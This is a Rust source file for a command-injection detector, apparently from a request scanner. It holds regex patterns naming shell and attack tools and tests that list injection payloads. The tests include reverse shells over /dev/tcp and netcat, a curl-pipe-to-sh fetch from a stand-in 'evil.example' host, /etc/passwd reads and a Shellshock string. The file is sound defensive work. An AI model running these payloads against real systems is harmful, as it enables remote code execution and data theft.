//! Shell commands behind a character that ends or embeds a command (sh, cmd.exe, PowerShell).

use std::borrow::Cow;
use std::sync::LazyLock;

use regex::bytes::Regex;

use super::commands::has_command;
use super::context::Words;
use super::{Classes, Detector, Hit, Kind, Subject, Tokens};
use crate::catalogue::DetectorInfo;
use crate::pattern;

pub(super) const DETECTOR: Detector = Detector { info: &INFO, wants, look };

const INFO: DetectorInfo = DetectorInfo {
    name: "command_injection",
    what: "a shell metacharacter followed by a command, or a command line where a value is expected",
    why: "a value that becomes part of a command line runs the attacker's programs",
    example: "127.0.0.1; cat /etc/passwd",
};

/// Classes of the bytes that end a command.
const BREAKS: Classes = Classes::SHELL
    .and(Classes::AMPERSAND)
    .and(Classes::QUOTE)
    .and(Classes::DOLLAR)
    .and(Classes::LINE)
    .and(Classes::ANGLE);

/// What ends a command, or begins another inside it.
const BREAK: &str = r#"(?:[;|&\x60\n\r]|\$\(|<\(|>\(|&&|\|\|)[\s'"(){]*(?:(?:sudo|exec|nohup|time|env|command|builtin|start|call|do|then)\s+)?(?:/(?:usr/)?(?:local/)?s?bin/|[a-z]:\\windows\\system32\\)?"#;
/// Commands whose names are hardly words of a text.
/// `;base64,` belongs to a `data:` URL.
const SURE: &str = r#"(?:(?:whoami|wget|curl|uname|ifconfig|ipconfig|netstat|nslookup|traceroute|tracert|netcat|telnet|passwd|systeminfo|tasklist|nproc|lscpu|powershell(?:\.exe)?|pwsh|cmd(?:\.exe)?\s*/[ck]|chmod|chown|useradd|adduser|crontab|killall|xxd|perl|python[23]?|php|ruby|bash|zsh|ksh|csh|dash|busybox|nc(?:\.\w+)?|ncat|socat|tftp|scp|rundll32|regsvr32|certutil|bitsadmin|mshta|wmic|schtasks|printenv|lsof|dmesg|pwd|ls|netsh|ssh|gcc|awk|sed|dir|reboot|shutdown|halt|vol|ver|getent|hostname|mknod|phpinfo\(\)|rm|cp|mv|ps|df|du|lsb_release)\b|base64(?:[^\w,]|$))"#;
/// Commands whose names are words as well: they need an argument of a command, or nothing behind them.
const UNSURE: &str = r#"(?:(?:id|w|who|date|env|set|dir|type|sh|users|ver)\s*(?:['"\x60)#;|}\n]|&&|&?$)|(?:cat|head|tail|more|less|type|nl|tac|sort|strings|find|grep|touch|mkdir|kill|source|del|copy|move|dir|sh|net|sleep|timeout|ping|host|dig|echo|print|printf|eval|export|read|alias|which|who|id|env|set|fetch|make|install|nano|vi|vim|ftp|tee|cut|file|stat|mount|ln|exit|waitfor)\s+(?:-{1,2}\w|/\w|\.{0,2}/|\\|[~$\x60*]|\d+\b|[a-z]:\\|['"]?[\w.-]*[./\\][\w./\\*?$-]*|user\b|localgroup\b|view\b|%\w+%|>|\S+\s*(?:>|\||;|&&|\x60|\)))|(?:cat|ping|echo|sleep|dig|touch|mkdir|kill|tac)\s+\S+\s*$)"#;

static COMMAND: LazyLock<Regex> = LazyLock::new(|| pattern(&format!("(?i){BREAK}(?:{SURE}|{UNSURE})")));
/// A value that is a command line from its first word.
static LEADING: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)^["']?\s*(?:/(?:usr/)?(?:local/)?s?bin/\w+|(?:cmd(?:\.exe)?\s*/[ck]\b|powershell(?:\.exe)?\s+-\w)|(?:wget|curl)\s+(?:-\S+\s+)*['"]?(?:https?|ftp)://|(?:cat|tail|head|less|more|ls|nc|rm|chmod|type|ping(?:\.exe)?|net)\s+(?:-\w+\s+)?(?:/(?:etc|proc|var|bin|root|tmp)\b|-\w+\s+/|c:\\|-[nc]\s*\d+\s+[\d.]+\s*$))"#,
    )
});
/// Marks of a shell that need no break before them.
static MARK: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)(?:\(\)\s*\{\s*:?\s*;?.{0,20}\}\s*;|^-oProxyCommand=|^--(?:output|upload-pack|checkpoint-action|use-compress-program|to-command|post-file|rsh)=(?:/|[a-z]+ )|\$\{IFS\b|\$IFS\b|/dev/(?:tcp|udp)/[\w.]+/\d|/bin/(?:ba|z|k|c|da)?sh\b\s*(?:-[ic]|[;|'"\x60)]|$|<|&)|\bpowershell(?:\.exe)?\s+(?:-\S+\s+)*-(?:e|en|enc|encodedcommand|c|command|nop|w|ep|exec\w*)\b|\bcmd(?:\.exe)?\s+/[ck]\s|\biex\s*\(|\binvoke-(?:expression|webrequest|command|mimikatz)\b|\bnew-object\s+(?:system\.)?net\.|downloadstring\s*\(|\bnc(?:at)?\s+(?:-[a-z]+\s+)+\S*(?:/bin/|cmd|\d+\.\d+))"#,
    )
});

/// A program named with wildcards, which only a shell expands.
static WILD: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?:[;|&\x60\n]|\$\()\s*/(?:[\w.-]*[?*\[][\w.?*\[\]-]*/[\w.?*\[\]/-]+|(?:usr/)?(?:local/)?s?bin/[\w.-]*[?*\[])",
    )
});

/// What attackers ask a shell for.
static WANTED: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)/etc/|/proc/|/dev/tcp|/root/|\.ssh|\b(?:nc|ncat|netcat|whoami|id|uname|passwd|shadow|base64|xxd|wget|curl|sh -c|bash -c|ping|sleep|nslookup|dig)\b",
    )
});

fn wants(subject: &Subject<'_>) -> bool {
    // The text of an uploaded file may well be a script.
    match subject.kind {
        Kind::File => false,
        // A header with a grammar of its own is split at `;` and `,`; a function for the shell fits into none.
        Kind::Structured => subject.classes.any(Classes::BRACE) && subject.tokens.any(Tokens::SHELL),
        _ => subject.tokens.any(Tokens::SHELL) || subject.classes.any(BREAKS),
    }
}

fn look(subject: &Subject<'_>) -> Option<Hit> {
    if subject.tokens.any(Tokens::SHELL)
        && let Some(found) = MARK.find(subject.bytes)
    {
        let mentioned = subject.is_mentioned(&found.range());
        return Some(Hit::at(&found, if mentioned { 0.65 } else { 0.92 }, "command line of a shell"));
    }
    if subject.kind == Kind::Structured {
        return None;
    }
    if memchr::memchr3(b'?', b'*', b'[', subject.bytes).is_some()
        && let Some(found) = WILD.find(subject.bytes)
    {
        return Some(Hit::at(&found, 0.88, "program named with wildcards"));
    }
    let leading = if subject.tokens.any(Tokens::SHELL) { LEADING.find(subject.bytes) } else { None };
    // A sentence may begin with a command that it is about.
    let spaces = subject.bytes.iter().filter(|byte| **byte == b' ').count();
    let leading = leading.map(|found| Hit::at(&found, if spaces > 4 { 0.7 } else { 0.86 }, "command line"));
    if !subject.classes.any(BREAKS) {
        return leading;
    }
    let plain = command(subject.bytes).map(|found| weigh(subject, subject.bytes, found.range()));
    let bare = unquoted(subject.bytes);
    let hidden = match &bare {
        Cow::Owned(text) if plain.is_none() => command(text).map(|found| {
            let hit = weigh(subject, text, found.range());
            Hit { range: 0..subject.bytes.len().min(120), ..hit }
        }),
        _ => None,
    };
    Hit::better(Hit::better(leading, plain), hidden)
}

/// The first command behind a break. Most breaks have another word behind them, which a look-up tells quickly.
fn command(bytes: &[u8]) -> Option<regex::bytes::Match<'_>> {
    if has_command(bytes) { COMMAND.find(bytes) } else { None }
}

/// How sure a break with a command behind it makes us, by what the break is and what stands around it.
fn weigh(subject: &Subject<'_>, bytes: &[u8], range: std::ops::Range<usize>) -> Hit {
    let found = bytes.get(range.clone()).unwrap_or_default();
    let first = found.first().copied().unwrap_or_default();
    let before = bytes.get(..range.start).unwrap_or_default();
    let after = bytes.get(range.end..).unwrap_or_default();
    // So do texts of several lines: what a script or a report quotes is content.
    let lines = bytes.split(|byte| *byte == b'\n').filter(|line| line.trim_ascii().contains(&b' ')).count();
    let long_text = lines >= 3 || bytes.iter().filter(|byte| **byte == b' ').count() > 12;
    let line_break = matches!(first, b'\n' | b'\r');
    // Markdown quotes code in backticks, and texts have many lines: a command there is talked about, not injected.
    let spanned = found.ends_with(b"`") && Words::of(before).words >= 2;
    let closed = first == b'`' && (spanned || after.contains(&b'`')) && before.iter().any(u8::is_ascii_alphabetic);
    // The shell would take the words of a sentence for arguments.
    let sentence = {
        let words = Words::of(after.get(..after.len().min(80)).unwrap_or(after));
        words.words >= 3 && words.glue >= 1
    };
    let prose = matches!(subject.kind, Kind::Json | Kind::Text | Kind::Parameter);
    // `a & b`, `x | y` with spaces on both sides and `; word` occur in texts and user agents.
    let spaced = before.last() == Some(&b' ') && found.get(1) == Some(&b' ');
    // In a query string that was not split, `&name=` is the next parameter.
    let parameter = first == b'&' && after.first() == Some(&b'=');
    let confidence = if parameter {
        0.2
    } else if subject.kind == Kind::Agent || subject.kind == Kind::Header {
        // Fields of a client's own list things behind `;`, with spaces, brackets or `=`.
        let listed = subject.kind == Kind::Agent
            || subject.classes.any(Classes::PAREN.and(Classes::EQUALS))
            || before.contains(&b' ');
        if first == b';' && listed { 0.4 } else { 0.82 }
    } else if prose && (closed || line_break) {
        if line_break && !long_text && subject.kind != Kind::Text && bytes.len() < 80 { 0.82 } else { 0.45 }
    } else if prose && sentence && first != b'$' {
        0.6
    } else if prose && is_command_line(subject) {
        0.65
    } else if prose && long_text {
        if spaced { 0.4 } else { 0.65 }
    } else {
        0.9
    };
    Hit { confidence, range, note: "command behind a shell metacharacter" }
}

/// Whether a string of a body is a whole command line of a developer: it begins with a tool of theirs, and asks for nothing
/// that an attacker wants to see.
fn is_command_line(subject: &Subject<'_>) -> bool {
    const TOOLS: &[&[u8]] = &[
        b"docker",
        b"git",
        b"npm",
        b"npx",
        b"yarn",
        b"pip",
        b"cargo",
        b"make",
        b"kubectl",
        b"helm",
        b"terraform",
        b"apt",
        b"brew",
        b"cd",
        b"cat",
        b"echo",
        b"rm",
        b"mkdir",
        b"cp",
        b"mv",
        b"ls",
        b"grep",
        b"find",
        b"sed",
        b"awk",
        b"tar",
        b"export",
        b"sudo",
        b"go",
        b"mvn",
        b"gradle",
        b"psql",
        b"node",
        b"python",
        b"python3",
        b"poetry",
        b"uv",
        b"set",
    ];
    let word = subject.bytes.split(u8::is_ascii_whitespace).next().unwrap_or_default();
    matches!(subject.kind, Kind::Json | Kind::Text) && TOOLS.contains(&word) && !WANTED.is_match(subject.bytes)
}

/// The text without what shells drop inside words: quotes, backslashes, carets, `$@`, `$1`.
fn unquoted(bytes: &[u8]) -> Cow<'_, [u8]> {
    let breaks = |byte: &u8| matches!(byte, b';' | b'|' | b'&' | b'`' | b'$' | b'\n');
    if !bytes.iter().any(breaks)
        || memchr::memchr2(b'\'', b'"', bytes).is_none() && memchr::memchr3(b'\\', b'^', b'$', bytes).is_none()
    {
        return Cow::Borrowed(bytes);
    }
    let mut out = Vec::with_capacity(bytes.len());
    let mut rest = bytes;
    while let Some((byte, tail)) = rest.split_first() {
        rest = tail;
        match byte {
            b'\'' | b'"' | b'\\' | b'^' => {}
            b'$' if matches!(tail.first(), Some(b'@' | b'*' | b'0'..=b'9')) => rest = tail.get(1..).unwrap_or_default(),
            b'{' if matches!(out.last(), Some(b';' | b'|' | b'&')) => {}
            other => out.push(*other),
        }
    }
    if out.len() == bytes.len() { Cow::Borrowed(bytes) } else { Cow::Owned(out) }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::examples::{must_fire, must_not_fire};

    #[test]
    fn commands_are_found() {
        must_fire(
            &DETECTOR,
            Kind::Parameter,
            &[
                "127.0.0.1; cat /etc/passwd",
                "x|id",
                "x && whoami",
                "`id`",
                "$(curl http://evil.example/x.sh|sh)",
                "a;c'a't /etc/passwd",
                "x;w\\get http://evil.example",
                "|| ping -c 10 127.0.0.1",
                "& dir c:\\",
                "file.txt;ls -la",
                "a\nid\n",
                "; sleep 10",
                ";cat${IFS}/etc/passwd",
                "powershell -enc SQBFAFgA",
                "cmd /c whoami",
                "/bin/sh -c id",
                "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
                "; nc -e /bin/sh 10.0.0.1 4444",
            ],
        );
        must_fire(&DETECTOR, Kind::Agent, &["() { :;}; /bin/bash -c 'cat /etc/passwd'"]);
    }

    #[test]
    fn ordinary_values_are_let_pass() {
        must_not_fire(
            &DETECTOR,
            Kind::Json,
            &[
                "cats & dogs; find out more",
                "salt & pepper",
                "Tom & Jerry | Cat & Mouse",
                "call me at 10; date to be fixed",
                "use `ls -la` to list files",
                "first do this;\nthen make the bed",
                "R&D; sort by name",
                "a; b; c",
                "price < 10 | price > 20",
                "text/html; charset=utf-8",
                "https://example.com/?a=1&id=2&type=3&sort=name",
                "const x = () => { return 1; }",
                "if (a && b) { c(); }",
                "Steps:\n1. open the shop\n2. ping me on chat when you are there",
            ],
        );
        must_not_fire(
            &DETECTOR,
            Kind::Agent,
            &["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"],
        );
        must_not_fire(&DETECTOR, Kind::File, &["#!/bin/bash\nset -e; curl http://x | sh; cat /etc/passwd\n"]);
    }
}
